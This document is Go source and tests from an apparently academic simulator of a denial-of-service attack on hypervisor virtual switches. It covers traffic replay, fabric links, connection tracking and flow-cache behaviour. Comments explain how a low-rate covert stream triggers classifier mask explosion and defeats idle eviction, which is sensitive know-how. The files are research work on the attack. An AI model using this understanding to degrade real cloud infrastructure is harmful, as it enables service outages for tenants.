// shared with r). It panics on a length mismatch.
func (r *Replayer) WithFrames(frames [][]byte, inPort uint32) *FrameReplayer {
	if len(frames) != len(r.keys) {
		panic(fmt.Sprintf("traffic: %d frames for %d replay keys", len(frames), len(r.keys)))
	}
	return &FrameReplayer{
		Replayer: r,
		frames:   append([][]byte(nil), frames...),
		inPort:   inPort,
	}
}

// Next returns the next key in cyclic order.
func (r *Replayer) Next() flow.Key {
	k := r.keys[r.next]
	r.next = (r.next + 1) % len(r.keys)
	return k
}

// FrameReplayer is a Replayer with its wire rendering attached: the
// Generator contract via the embedded Replayer plus the FrameSource
// contract over the supplied frames, one shared cursor.
type FrameReplayer struct {
	*Replayer
	frames [][]byte
	inPort uint32
}

// NextFrame returns the next packet as a wire frame with its ingress
// port, advancing the same cursor as Next.
func (r *FrameReplayer) NextFrame() ([]byte, uint32) {
	f := r.frames[r.next]
	r.next = (r.next + 1) % len(r.keys)
	return f, r.inPort
}

// Len returns the sequence length.
func (r *Replayer) Len() int { return len(r.keys) }

// Pacer converts a packets-per-second rate into integer packet counts per
// simulation tick, accumulating fractional remainders so the long-run rate
// is exact.
type Pacer struct {
	PPS   float64
	accum float64
}

// Take returns how many packets to emit for a tick of dt seconds.
func (p *Pacer) Take(dt float64) int {
	if p.PPS <= 0 || dt <= 0 {
		return 0
	}
	p.accum += p.PPS * dt
	n := int(p.accum)
	p.accum -= float64(n)
	return n
}

// String describes the pacer.
func (p *Pacer) String() string { return fmt.Sprintf("%.0f pps", p.PPS) }
