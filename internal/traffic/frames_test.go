package traffic

import (
	"net/netip"
	"testing"

	"policyinject/internal/flow"
	"policyinject/internal/pkt"
)

// extractBack parses a generated frame back into a key, failing the test
// on a parse error — generator frames must always be well-formed.
func extractBack(t *testing.T, frame []byte, inPort uint32) flow.Key {
	t.Helper()
	k, err := pkt.Extract(frame, inPort)
	if err != nil {
		t.Fatalf("generator emitted unparseable frame: %v", err)
	}
	return k
}

// sameTuple fails unless the frame-extracted key carries exactly the
// generator key's five-tuple and in-port (the frame adds L2 fields the
// key path leaves zero; the classifier-relevant fields must agree).
func sameTuple(t *testing.T, want flow.Key, frame []byte, inPort uint32) {
	t.Helper()
	got := extractBack(t, frame, inPort)
	if got.Tuple() != want.Tuple() {
		t.Fatalf("frame tuple %+v != key tuple %+v", got.Tuple(), want.Tuple())
	}
	if got.Get(flow.FieldInPort) != want.Get(flow.FieldInPort) {
		t.Fatalf("in_port %d != %d", got.Get(flow.FieldInPort), want.Get(flow.FieldInPort))
	}
}

func TestVictimFramesMatchKeys(t *testing.T) {
	mk := func() *Victim {
		return NewVictim(VictimConfig{
			Src:    netip.MustParseAddr("10.10.0.5"),
			Dst:    netip.MustParseAddr("172.16.0.2"),
			InPort: 3,
		})
	}
	keyGen, frameGen := mk(), mk()
	for i := 0; i < 20; i++ {
		want := keyGen.Next()
		frame, inPort := frameGen.NextFrame()
		if len(frame) != keyGen.FrameLen() {
			t.Fatalf("frame %d: %d bytes, want %d", i, len(frame), keyGen.FrameLen())
		}
		sameTuple(t, want, frame, inPort)
	}
}

// TestVictimSharedCursor pins that Next and NextFrame advance one stream.
func TestVictimSharedCursor(t *testing.T) {
	v := NewVictim(VictimConfig{
		Src: netip.MustParseAddr("10.10.0.5"), Dst: netip.MustParseAddr("172.16.0.2"),
	})
	first := v.Next()
	frame, inPort := v.NextFrame()
	second := extractBack(t, frame, inPort)
	if first.Tuple() == second.Tuple() {
		t.Fatal("NextFrame did not advance the round-robin cursor")
	}
}

func TestMixFramesMatchKeys(t *testing.T) {
	cfg := MixConfig{Seed: 7, NFlows: 64, InPort: 2, FrameLen: 256}
	keyGen, frameGen := NewMix(cfg), NewMix(cfg)
	for i := 0; i < 50; i++ {
		want := keyGen.Next()
		frame, inPort := frameGen.NextFrame()
		if len(frame) != cfg.FrameLen {
			t.Fatalf("frame %d: %d bytes, want %d", i, len(frame), cfg.FrameLen)
		}
		sameTuple(t, want, frame, inPort)
	}
}

func TestReplayerWithFrames(t *testing.T) {
	keys := []flow.Key{
		flow.FiveTuple{Src: netip.MustParseAddr("10.0.0.1"), Dst: netip.MustParseAddr("10.0.0.2"), Proto: 6, SrcPort: 1, DstPort: 2}.Key(9),
		flow.FiveTuple{Src: netip.MustParseAddr("10.0.0.3"), Dst: netip.MustParseAddr("10.0.0.2"), Proto: 6, SrcPort: 3, DstPort: 4}.Key(9),
	}
	frames := [][]byte{{1}, {2}}
	r := NewReplayer(keys).WithFrames(frames, 9)
	for i := 0; i < 5; i++ {
		f, inPort := r.NextFrame()
		if inPort != 9 || f[0] != byte(1+i%2) {
			t.Fatalf("cycle %d: frame %v port %d", i, f, inPort)
		}
	}

	defer func() {
		if recover() == nil {
			t.Fatal("mismatched frame count did not panic")
		}
	}()
	NewReplayer(keys).WithFrames([][]byte{{1}}, 9)
}

// TestPlainReplayerIsNotAFrameSource pins the opt-in design: a Replayer
// without attached frames must not satisfy FrameSource (its keys may
// carry fields or protocols no builder rendering could round-trip), so
// sim.MeasureCost keeps such replays on the key path. The FrameReplayer
// view shares the cursor with the underlying Replayer.
func TestPlainReplayerIsNotAFrameSource(t *testing.T) {
	keys := []flow.Key{
		flow.FiveTuple{Src: netip.MustParseAddr("10.0.0.1"), Dst: netip.MustParseAddr("10.0.0.2"), Proto: 17, SrcPort: 53, DstPort: 53}.Key(4),
		flow.FiveTuple{Src: netip.MustParseAddr("10.0.0.9"), Dst: netip.MustParseAddr("10.0.0.2"), Proto: 6, SrcPort: 99, DstPort: 443}.Key(7),
	}
	var gen Generator = NewReplayer(keys)
	if _, ok := gen.(FrameSource); ok {
		t.Fatal("plain Replayer must not be a FrameSource")
	}
	fr := NewReplayer(keys).WithFrames([][]byte{{1}, {2}}, 4)
	if _, ok := any(fr).(FrameSource); !ok {
		t.Fatal("FrameReplayer must be a FrameSource")
	}
	fr.NextFrame() // advances the shared cursor...
	if got := fr.Next(); got != keys[1] {
		t.Fatalf("cursor not shared: got %v", got)
	}
}
