// Package fabric simulates the data-centre fabric of the paper's test
// setup (Fig. 1): server nodes running hypervisor switches, connected by
// capacity-limited links. Frames addressed to a pod are processed by the
// pod's hypervisor switch with the pod's virtual port as ingress — the
// "red dot" of Fig. 1 where the CMS installed the ACL.
//
// The fabric's role in the experiments is to show that the attack is not
// bandwidth-borne: the covert stream fits in a trickle of link capacity
// while the damage happens inside the destination hypervisor's CPU.
package fabric

import (
	"fmt"
	"net/netip"
	"sort"

	"policyinject/internal/dataplane"
	"policyinject/internal/flowtable"
	"policyinject/internal/pkt"
)

// Endpoint is a pod/VM attachment: the hypervisor switch and virtual port
// where its traffic is policed.
type Endpoint struct {
	Host string
	Sw   *dataplane.Switch
	Port uint32
}

// Link is a host-to-host fabric link with a byte budget per simulation
// tick.
type Link struct {
	A, B string
	BPS  float64 // capacity, bits per second

	budget     float64 // remaining bytes this tick
	SentBytes  uint64
	DropBytes  uint64
	SentFrames uint64
	DropFrames uint64
}

func (l *Link) key() [2]string {
	if l.A < l.B {
		return [2]string{l.A, l.B}
	}
	return [2]string{l.B, l.A}
}

// Fabric is the topology: hosts, links and endpoints.
type Fabric struct {
	hosts     map[string]*dataplane.Switch
	links     map[[2]string]*Link
	endpoints map[netip.Addr]Endpoint
}

// New returns an empty fabric.
func New() *Fabric {
	return &Fabric{
		hosts:     make(map[string]*dataplane.Switch),
		links:     make(map[[2]string]*Link),
		endpoints: make(map[netip.Addr]Endpoint),
	}
}

// AddHost attaches a hypervisor switch as a fabric host.
func (f *Fabric) AddHost(name string, sw *dataplane.Switch) error {
	if _, ok := f.hosts[name]; ok {
		return fmt.Errorf("fabric: host %q exists", name)
	}
	f.hosts[name] = sw
	return nil
}

// Connect links two hosts at the given capacity (bits per second). The
// link is bidirectional and shared.
func (f *Fabric) Connect(a, b string, bps float64) (*Link, error) {
	if f.hosts[a] == nil || f.hosts[b] == nil {
		return nil, fmt.Errorf("fabric: connect %q-%q: unknown host", a, b)
	}
	l := &Link{A: a, B: b, BPS: bps}
	if _, ok := f.links[l.key()]; ok {
		return nil, fmt.Errorf("fabric: link %q-%q exists", a, b)
	}
	f.links[l.key()] = l
	return l, nil
}

// Register attaches a pod IP to a host's switch port.
func (f *Fabric) Register(ip netip.Addr, host string, port uint32) error {
	sw := f.hosts[host]
	if sw == nil {
		return fmt.Errorf("fabric: register %v: unknown host %q", ip, host)
	}
	if _, ok := f.endpoints[ip]; ok {
		return fmt.Errorf("fabric: %v already registered", ip)
	}
	f.endpoints[ip] = Endpoint{Host: host, Sw: sw, Port: port}
	return nil
}

// Endpoint resolves a pod IP.
func (f *Fabric) Endpoint(ip netip.Addr) (Endpoint, bool) {
	e, ok := f.endpoints[ip]
	return e, ok
}

// Tick resets every link's byte budget for a tick of dt seconds.
func (f *Fabric) Tick(dt float64) {
	for _, l := range f.links {
		l.budget = l.BPS * dt / 8
	}
}

// Result reports one frame's journey.
type Result struct {
	Decision  dataplane.Decision
	Delivered bool   // false when dropped (policy, parse error or link)
	DropLink  bool   // dropped for lack of link capacity
	Host      string // processing host
}

// Send routes one frame from a source endpoint toward its IPv4
// destination: it charges the fabric link (when the destination lives on a
// different host) and then runs the frame through the destination
// hypervisor's pipeline at the destination pod's virtual port.
func (f *Fabric) Send(now uint64, srcIP netip.Addr, frame []byte) (Result, error) {
	eth, err := pkt.DecodeEthernet(frame)
	if err != nil {
		return Result{}, fmt.Errorf("fabric: %w", err)
	}
	ip, err := pkt.DecodeIPv4(eth.Payload)
	if err != nil {
		return Result{}, fmt.Errorf("fabric: %w", err)
	}
	dst, ok := f.endpoints[ip.Dst]
	if !ok {
		return Result{}, fmt.Errorf("fabric: no endpoint for %v", ip.Dst)
	}
	src, ok := f.endpoints[srcIP]
	if !ok {
		return Result{}, fmt.Errorf("fabric: no endpoint for source %v", srcIP)
	}
	if src.Host != dst.Host {
		l := f.links[linkKey(src.Host, dst.Host)]
		if l == nil {
			return Result{}, fmt.Errorf("fabric: no link %s-%s", src.Host, dst.Host)
		}
		if l.budget < float64(len(frame)) {
			l.DropBytes += uint64(len(frame))
			l.DropFrames++
			return Result{Delivered: false, DropLink: true, Host: dst.Host}, nil
		}
		l.budget -= float64(len(frame))
		l.SentBytes += uint64(len(frame))
		l.SentFrames++
	}
	d, err := dst.Sw.Process(now, dst.Port, frame)
	if err != nil {
		return Result{Decision: d, Delivered: false, Host: dst.Host}, nil
	}
	return Result{
		Decision:  d,
		Delivered: d.Verdict.Verdict == flowtable.Allow,
		Host:      dst.Host,
	}, nil
}

func linkKey(a, b string) [2]string {
	if a < b {
		return [2]string{a, b}
	}
	return [2]string{b, a}
}

// Links returns the links sorted by endpoint names.
func (f *Fabric) Links() []*Link {
	out := make([]*Link, 0, len(f.links))
	for _, l := range f.links {
		out = append(out, l)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].key()[0]+out[i].key()[1] < out[j].key()[0]+out[j].key()[1] })
	return out
}

// String renders the topology.
func (f *Fabric) String() string {
	s := fmt.Sprintf("fabric: %d hosts, %d links, %d endpoints\n", len(f.hosts), len(f.links), len(f.endpoints))
	for _, l := range f.Links() {
		s += fmt.Sprintf("  link %s-%s %.1f Gbps (sent %d, dropped %d frames)\n",
			l.A, l.B, l.BPS/1e9, l.SentFrames, l.DropFrames)
	}
	return s
}
