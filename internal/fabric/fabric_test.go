package fabric

import (
	"net/netip"
	"strings"
	"testing"

	"policyinject/internal/dataplane"
	"policyinject/internal/flowtable"
	"policyinject/internal/pkt"
)

// twoServer builds the paper's Fig. 1 topology: two servers with
// allow-all switches, a 10 Gbps fabric link, and one pod per server.
func twoServer(t *testing.T) (*Fabric, netip.Addr, netip.Addr) {
	t.Helper()
	f := New()
	for _, name := range []string{"server-1", "server-2"} {
		sw := dataplane.New(name)
		sw.AddPort(1, "pod")
		sw.InstallRule(flowtable.Rule{Priority: 0, Action: flowtable.Action{Verdict: flowtable.Allow}})
		if err := f.AddHost(name, sw); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := f.Connect("server-1", "server-2", 10e9); err != nil {
		t.Fatal(err)
	}
	a := netip.MustParseAddr("172.16.0.1")
	b := netip.MustParseAddr("172.16.0.2")
	if err := f.Register(a, "server-1", 1); err != nil {
		t.Fatal(err)
	}
	if err := f.Register(b, "server-2", 1); err != nil {
		t.Fatal(err)
	}
	return f, a, b
}

func frame(src, dst netip.Addr, size int) []byte {
	return pkt.MustBuild(pkt.Spec{
		Src: src, Dst: dst, Proto: pkt.ProtoTCP,
		SrcPort: 1000, DstPort: 80, FrameLen: size,
	})
}

func TestSendCrossHost(t *testing.T) {
	f, a, b := twoServer(t)
	f.Tick(1)
	res, err := f.Send(1, a, frame(a, b, 1500))
	if err != nil {
		t.Fatal(err)
	}
	if !res.Delivered || res.Host != "server-2" {
		t.Fatalf("result: %+v", res)
	}
	l := f.Links()[0]
	if l.SentFrames != 1 || l.SentBytes != 1500 {
		t.Errorf("link stats: %+v", l)
	}
}

func TestSendSameHostSkipsLink(t *testing.T) {
	f, a, _ := twoServer(t)
	c := netip.MustParseAddr("172.16.0.3")
	if err := f.Register(c, "server-1", 1); err != nil {
		t.Fatal(err)
	}
	f.Tick(1)
	res, err := f.Send(1, a, frame(a, c, 1000))
	if err != nil {
		t.Fatal(err)
	}
	if !res.Delivered {
		t.Fatalf("result: %+v", res)
	}
	if f.Links()[0].SentFrames != 0 {
		t.Error("same-host traffic charged the fabric link")
	}
}

func TestLinkCapacityDrops(t *testing.T) {
	f, a, b := twoServer(t)
	f.Tick(0.001) // 10 Gbps * 1 ms / 8 = 1.25 MB budget
	sent, dropped := 0, 0
	for i := 0; i < 2000; i++ { // 2000 * 1500B = 3 MB > budget
		res, err := f.Send(1, a, frame(a, b, 1500))
		if err != nil {
			t.Fatal(err)
		}
		if res.DropLink {
			dropped++
		} else {
			sent++
		}
	}
	if dropped == 0 {
		t.Fatal("no drops despite oversubscription")
	}
	if sent < 800 || sent > 850 { // 1.25MB/1500B = 833
		t.Errorf("sent %d frames, want ~833", sent)
	}
	// Budget replenishes on the next tick.
	f.Tick(0.001)
	if res, _ := f.Send(1, a, frame(a, b, 1500)); res.DropLink {
		t.Error("budget did not replenish")
	}
}

func TestCovertStreamFitsComfortably(t *testing.T) {
	// The paper's premise: a 2 Mbps covert stream is noise on a DC link.
	f, a, b := twoServer(t)
	f.Tick(1)                   // one second
	for i := 0; i < 3906; i++ { // 2 Mbps at 64-byte frames
		res, err := f.Send(1, a, frame(a, b, 64))
		if err != nil || res.DropLink {
			t.Fatalf("covert frame %d dropped: %+v %v", i, res, err)
		}
	}
	l := f.Links()[0]
	if used := float64(l.SentBytes*8) / l.BPS; used > 0.001 {
		t.Errorf("covert stream used %.4f%% of the link; expected well under 0.1%%", used*100)
	}
}

func TestSendErrors(t *testing.T) {
	f, a, b := twoServer(t)
	f.Tick(1)
	// Unknown destination.
	if _, err := f.Send(1, a, frame(a, netip.MustParseAddr("9.9.9.9"), 100)); err == nil {
		t.Error("unknown destination accepted")
	}
	// Unknown source.
	if _, err := f.Send(1, netip.MustParseAddr("8.8.8.8"), frame(a, b, 100)); err == nil {
		t.Error("unknown source accepted")
	}
	// Garbage frame.
	if _, err := f.Send(1, a, []byte{1, 2, 3}); err == nil {
		t.Error("garbage frame accepted")
	}
}

func TestTopologyErrors(t *testing.T) {
	f, a, _ := twoServer(t)
	if err := f.AddHost("server-1", nil); err == nil {
		t.Error("duplicate host accepted")
	}
	if _, err := f.Connect("server-1", "nope", 1); err == nil {
		t.Error("link to unknown host accepted")
	}
	if _, err := f.Connect("server-1", "server-2", 1); err == nil {
		t.Error("duplicate link accepted")
	}
	if err := f.Register(a, "server-1", 2); err == nil {
		t.Error("duplicate IP accepted")
	}
	if err := f.Register(netip.MustParseAddr("1.2.3.4"), "nope", 1); err == nil {
		t.Error("register on unknown host accepted")
	}
}

func TestPolicyDenyNotDelivered(t *testing.T) {
	f := New()
	sw := dataplane.New("hv")
	sw.InstallRule(flowtable.Rule{Priority: 0}) // deny all
	f.AddHost("h", sw)
	a := netip.MustParseAddr("172.16.0.1")
	b := netip.MustParseAddr("172.16.0.2")
	f.Register(a, "h", 1)
	f.Register(b, "h", 2)
	f.Tick(1)
	res, err := f.Send(1, a, frame(a, b, 100))
	if err != nil {
		t.Fatal(err)
	}
	if res.Delivered || res.DropLink {
		t.Fatalf("denied frame misreported: %+v", res)
	}
}

func TestEndpointAndString(t *testing.T) {
	f, a, _ := twoServer(t)
	if e, ok := f.Endpoint(a); !ok || e.Host != "server-1" {
		t.Errorf("Endpoint = %+v, %v", e, ok)
	}
	if _, ok := f.Endpoint(netip.MustParseAddr("1.1.1.1")); ok {
		t.Error("phantom endpoint")
	}
	if s := f.String(); !strings.Contains(s, "2 hosts") || !strings.Contains(s, "10.0 Gbps") {
		t.Errorf("String() = %q", s)
	}
}
