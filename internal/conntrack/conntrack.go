// Package conntrack implements the connection tracker behind stateful
// security groups (the OpenStack flavour of the paper's ACLs): a
// bidirectional 5-tuple table that classifies packets as new, established
// or reply, feeding the ct_state field the post-recirculation flow rules
// match on.
//
// The model follows the OVS/netfilter integration in shape: the dataplane
// sends untracked packets through Lookup (the "ct" action), re-classifies
// them with ct_state set (recirculation — a second, separately billed
// classifier pass), and Commits connections that the policy admits. The
// part that matters for the paper's attack is preserved faithfully:
// tracked traffic still traverses the megaflow TSS (twice, in fact), so
// statefulness does not shield the victim from mask explosion.
package conntrack

import (
	"fmt"
	"net/netip"

	"policyinject/internal/flow"
)

// State classifies a packet against the table.
type State uint8

const (
	// StateInvalid: the packet cannot belong to a trackable connection.
	StateInvalid State = iota
	// StateNew: the packet would create a connection that is not
	// committed yet.
	StateNew
	// StateEstablished: the packet belongs to a committed connection that
	// has been seen in both directions.
	StateEstablished
	// StateReply: the first packet(s) in the reverse direction of a
	// committed connection; subsequent packets report StateEstablished.
	StateReply
)

func (s State) String() string {
	switch s {
	case StateNew:
		return "new"
	case StateEstablished:
		return "est"
	case StateReply:
		return "rpl"
	default:
		return "inv"
	}
}

// CTBits renders the state as the ct_state field bits for a tracked
// packet.
func (s State) CTBits() uint64 {
	bits := flow.CTTracked
	switch s {
	case StateNew:
		bits |= flow.CTNew
	case StateEstablished:
		bits |= flow.CTEstablished
	case StateReply:
		bits |= flow.CTEstablished | flow.CTReply
	default:
		bits |= flow.CTInvalid
	}
	return bits
}

// Conn is one tracked connection.
type Conn struct {
	Orig      flow.FiveTuple // direction of the committing packet
	Created   uint64
	LastSeen  uint64
	Packets   uint64
	SeenReply bool
}

// Config tunes the tracker.
type Config struct {
	// MaxConns caps the table (nf_conntrack_max); 0 means 65536.
	MaxConns int
	// IdleTimeout is the logical-time eviction horizon used by Expire;
	// 0 means 120 (OVS defaults are protocol-dependent; one knob
	// suffices for the model).
	IdleTimeout uint64
}

// Table is the connection table. Not safe for concurrent use.
type Table struct {
	cfg   Config
	conns map[flow.FiveTuple]*Conn // keyed by canonical direction

	// Stats
	Lookups, Commits, Drops, Expired uint64
}

// New builds a Table.
func New(cfg Config) *Table {
	if cfg.MaxConns == 0 {
		cfg.MaxConns = 65536
	}
	if cfg.IdleTimeout == 0 {
		cfg.IdleTimeout = 120
	}
	return &Table{cfg: cfg, conns: make(map[flow.FiveTuple]*Conn)}
}

// Len returns the number of tracked connections.
func (t *Table) Len() int { return len(t.conns) }

// Cap returns the table's connection capacity (Config.MaxConns after
// defaulting) — the target the table-full fault injector fills to.
func (t *Table) Cap() int { return t.cfg.MaxConns }

// canonical orders a tuple so both directions map to one key.
func canonical(ft flow.FiveTuple) (flow.FiveTuple, bool) {
	r := reverse(ft)
	if less(r, ft) {
		return r, true // stored reversed
	}
	return ft, false
}

func reverse(ft flow.FiveTuple) flow.FiveTuple {
	return flow.FiveTuple{
		Src: ft.Dst, Dst: ft.Src, Proto: ft.Proto,
		SrcPort: ft.DstPort, DstPort: ft.SrcPort,
	}
}

func less(a, b flow.FiveTuple) bool {
	if c := a.Src.Compare(b.Src); c != 0 {
		return c < 0
	}
	if c := a.Dst.Compare(b.Dst); c != 0 {
		return c < 0
	}
	if a.SrcPort != b.SrcPort {
		return a.SrcPort < b.SrcPort
	}
	return a.DstPort < b.DstPort
}

// trackable rejects tuples conntrack cannot follow.
func trackable(ft flow.FiveTuple) bool {
	if !ft.Src.IsValid() || !ft.Dst.IsValid() {
		return false
	}
	switch uint64(ft.Proto) {
	case flow.ProtoTCP, flow.ProtoUDP, flow.ProtoICMP, flow.ProtoICMPv6:
		return true
	default:
		return false
	}
}

// Lookup classifies the packet and refreshes the matched connection —
// the "ct" action. It does not create state; only Commit does.
func (t *Table) Lookup(ft flow.FiveTuple, now uint64) (State, *Conn) {
	t.Lookups++
	if !trackable(ft) {
		return StateInvalid, nil
	}
	key, _ := canonical(ft)
	conn, ok := t.conns[key]
	if !ok {
		return StateNew, nil
	}
	conn.Packets++
	conn.LastSeen = now
	if ft == conn.Orig {
		if conn.SeenReply {
			return StateEstablished, conn
		}
		return StateNew, conn // still unanswered: repeat originals stay +new
	}
	// Reverse direction.
	if conn.SeenReply {
		return StateEstablished, conn
	}
	conn.SeenReply = true
	return StateReply, conn
}

// Commit creates (or refreshes) the connection for a packet the policy
// admitted — the "ct(commit)" action. It reports false when the table is
// full, in which case the caller should drop, as netfilter does.
func (t *Table) Commit(ft flow.FiveTuple, now uint64) bool {
	if !trackable(ft) {
		return false
	}
	key, _ := canonical(ft)
	if conn, ok := t.conns[key]; ok {
		conn.LastSeen = now
		return true
	}
	if len(t.conns) >= t.cfg.MaxConns {
		t.Drops++
		return false
	}
	//lint:allow hotpathalloc one insert per new connection, not per packet
	t.conns[key] = &Conn{Orig: ft, Created: now, LastSeen: now, Packets: 1}
	t.Commits++
	return true
}

// Expire removes connections idle past the configured timeout, returning
// the eviction count.
func (t *Table) Expire(now uint64) int {
	if now < t.cfg.IdleTimeout {
		return 0
	}
	deadline := now - t.cfg.IdleTimeout
	n := 0
	for k, c := range t.conns {
		if c.LastSeen < deadline {
			delete(t.conns, k)
			n++
		}
	}
	t.Expired += uint64(n)
	return n
}

// String summarises the table.
func (t *Table) String() string {
	return fmt.Sprintf("conntrack: %d/%d conns (commits %d, drops %d, expired %d)",
		len(t.conns), t.cfg.MaxConns, t.Commits, t.Drops, t.Expired)
}

// MustTuple builds a FiveTuple for tests and examples.
func MustTuple(src, dst string, proto uint8, sport, dport uint16) flow.FiveTuple {
	return flow.FiveTuple{
		Src: netip.MustParseAddr(src), Dst: netip.MustParseAddr(dst),
		Proto: proto, SrcPort: sport, DstPort: dport,
	}
}
