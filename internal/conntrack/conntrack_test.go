package conntrack

import (
	"math/rand"
	"net/netip"
	"strings"
	"testing"

	"policyinject/internal/flow"
)

var (
	fwd = MustTuple("10.0.0.1", "10.0.0.2", 6, 40000, 443)
	rev = MustTuple("10.0.0.2", "10.0.0.1", 6, 443, 40000)
)

func TestConnectionLifecycle(t *testing.T) {
	ct := New(Config{})
	// Untracked first packet: new, no state created by Lookup alone.
	if s, _ := ct.Lookup(fwd, 1); s != StateNew {
		t.Fatalf("state = %v", s)
	}
	if ct.Len() != 0 {
		t.Fatal("Lookup created state")
	}
	// Policy admits it: commit.
	if !ct.Commit(fwd, 1) {
		t.Fatal("Commit failed")
	}
	// Retransmission before any reply: still new.
	if s, _ := ct.Lookup(fwd, 2); s != StateNew {
		t.Fatalf("retransmission state = %v", s)
	}
	// First reply: Reply, then both directions are Established.
	if s, _ := ct.Lookup(rev, 3); s != StateReply {
		t.Fatalf("reply state = %v", s)
	}
	if s, _ := ct.Lookup(fwd, 4); s != StateEstablished {
		t.Fatalf("forward after reply = %v", s)
	}
	if s, _ := ct.Lookup(rev, 5); s != StateEstablished {
		t.Fatalf("reverse after reply = %v", s)
	}
	if ct.Len() != 1 {
		t.Fatalf("conns = %d", ct.Len())
	}
}

func TestBidirectionalCanonicalKey(t *testing.T) {
	ct := New(Config{})
	ct.Commit(fwd, 1)
	// Committing the reverse direction must not create a second conn.
	ct.Commit(rev, 2)
	if ct.Len() != 1 {
		t.Fatalf("conns = %d, want 1", ct.Len())
	}
}

func TestUntrackableProtocols(t *testing.T) {
	ct := New(Config{})
	weird := MustTuple("10.0.0.1", "10.0.0.2", 89 /* OSPF */, 0, 0)
	if s, _ := ct.Lookup(weird, 1); s != StateInvalid {
		t.Fatalf("state = %v", s)
	}
	if ct.Commit(weird, 1) {
		t.Fatal("untrackable proto committed")
	}
	if s, _ := ct.Lookup(flow.FiveTuple{}, 1); s != StateInvalid {
		t.Fatal("zero tuple trackable")
	}
}

func TestTableLimitDrops(t *testing.T) {
	ct := New(Config{MaxConns: 3})
	for i := 0; i < 5; i++ {
		ft := MustTuple("10.0.0.1", "10.0.0.2", 6, uint16(1000+i), 80)
		ct.Commit(ft, 1)
	}
	if ct.Len() != 3 {
		t.Fatalf("conns = %d", ct.Len())
	}
	if ct.Drops != 2 {
		t.Fatalf("drops = %d", ct.Drops)
	}
	// Refreshing an existing conn at the limit still succeeds.
	if !ct.Commit(MustTuple("10.0.0.1", "10.0.0.2", 6, 1000, 80), 9) {
		t.Fatal("refresh at limit failed")
	}
}

func TestExpire(t *testing.T) {
	ct := New(Config{IdleTimeout: 10})
	ct.Commit(fwd, 1)
	other := MustTuple("10.0.0.3", "10.0.0.4", 17, 53, 53)
	ct.Commit(other, 1)
	ct.Lookup(fwd, 50) // keep fwd warm
	if n := ct.Expire(55); n != 1 {
		t.Fatalf("expired = %d, want 1", n)
	}
	if ct.Len() != 1 {
		t.Fatalf("conns = %d", ct.Len())
	}
	if n := ct.Expire(5); n != 0 {
		t.Fatalf("early expire removed %d", n)
	}
}

func TestCTBits(t *testing.T) {
	cases := []struct {
		s    State
		want uint64
	}{
		{StateNew, flow.CTTracked | flow.CTNew},
		{StateEstablished, flow.CTTracked | flow.CTEstablished},
		{StateReply, flow.CTTracked | flow.CTEstablished | flow.CTReply},
		{StateInvalid, flow.CTTracked | flow.CTInvalid},
	}
	for _, c := range cases {
		if got := c.s.CTBits(); got != c.want {
			t.Errorf("%v bits = %#x, want %#x", c.s, got, c.want)
		}
	}
	if StateNew.String() != "new" || StateInvalid.String() != "inv" {
		t.Error("state strings wrong")
	}
}

// Property: for random tuples, Lookup(t) and Lookup(reverse(t)) resolve to
// the same connection once committed.
func TestCanonicalisationProperty(t *testing.T) {
	rng := rand.New(rand.NewSource(17))
	ct := New(Config{MaxConns: 100000})
	for trial := 0; trial < 2000; trial++ {
		ft := flow.FiveTuple{
			Src:     netip.AddrFrom4([4]byte{10, byte(rng.Intn(4)), byte(rng.Intn(4)), byte(rng.Intn(4))}),
			Dst:     netip.AddrFrom4([4]byte{10, byte(rng.Intn(4)), byte(rng.Intn(4)), byte(rng.Intn(4))}),
			Proto:   6,
			SrcPort: uint16(rng.Intn(8)),
			DstPort: uint16(rng.Intn(8)),
		}
		before := ct.Len()
		ct.Commit(ft, uint64(trial))
		ct.Commit(reverse(ft), uint64(trial))
		if ct.Len() > before+1 {
			t.Fatalf("trial %d: commit of both directions created two conns (%+v)", trial, ft)
		}
	}
}

func TestIPv6Tracking(t *testing.T) {
	ct := New(Config{})
	v6 := MustTuple("2001:db8::1", "2001:db8::2", 6, 1000, 443)
	if !ct.Commit(v6, 1) {
		t.Fatal("v6 commit failed")
	}
	if s, _ := ct.Lookup(reverse(v6), 2); s != StateReply {
		t.Fatalf("v6 reply state = %v", s)
	}
}

func TestString(t *testing.T) {
	ct := New(Config{})
	ct.Commit(fwd, 1)
	if s := ct.String(); !strings.Contains(s, "1/65536") {
		t.Errorf("String() = %q", s)
	}
}
