package cache

import (
	"errors"
	"math/rand"
	"testing"

	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
)

func key(ip uint64, port uint64) flow.Key {
	var k flow.Key
	k.Set(flow.FieldIPSrc, ip)
	k.Set(flow.FieldTPDst, port)
	return k
}

func prefixMatch(ip uint64, plen int) flow.Match {
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, ip)
	m.Mask.SetPrefix(flow.FieldIPSrc, plen)
	m.Normalize()
	return m
}

var allow = Verdict{Verdict: flowtable.Allow}
var deny = Verdict{Verdict: flowtable.Deny}

// mf returns a live megaflow entry to reference from EMC tests.
func mf(v Verdict) *Entry { return &Entry{Verdict: v} }

func TestEMCBasic(t *testing.T) {
	e := NewEMC(EMCConfig{Entries: 4})
	k := key(1, 2)
	if _, ok := e.Lookup(k, 0); ok {
		t.Fatal("hit in empty cache")
	}
	e.Insert(k, mf(allow))
	ent, ok := e.Lookup(k, 2)
	if !ok || ent.Verdict != allow {
		t.Fatalf("lookup = %v, %v", ent, ok)
	}
	if e.Hits != 1 || e.Misses != 1 || e.Inserts != 1 {
		t.Errorf("stats: %+v", *e)
	}
}

// TestEMCHitCreditsMegaflow verifies the OVS-faithful liveness chain: EMC
// hits refresh the referenced megaflow entry, which is how the attacker's
// replayed covert stream defeats idle eviction.
func TestEMCHitCreditsMegaflow(t *testing.T) {
	e := NewEMC(EMCConfig{Entries: 4})
	ent := mf(deny)
	e.Insert(key(1, 1), ent)
	e.Lookup(key(1, 1), 77)
	if ent.Hits != 1 || ent.LastHit != 77 {
		t.Fatalf("megaflow not credited: %+v", ent)
	}
}

// TestEMCStaleEntryPurged: a dead megaflow makes its EMC references
// invalid lazily, as OVS validates by sequence number.
func TestEMCStaleEntryPurged(t *testing.T) {
	e := NewEMC(EMCConfig{Entries: 4})
	ent := mf(allow)
	e.Insert(key(1, 1), ent)
	ent.dead.Store(true)
	if _, ok := e.Lookup(key(1, 1), 1); ok {
		t.Fatal("stale EMC entry served")
	}
	if e.Len() != 0 || e.Stale != 1 {
		t.Fatalf("len=%d stale=%d", e.Len(), e.Stale)
	}
}

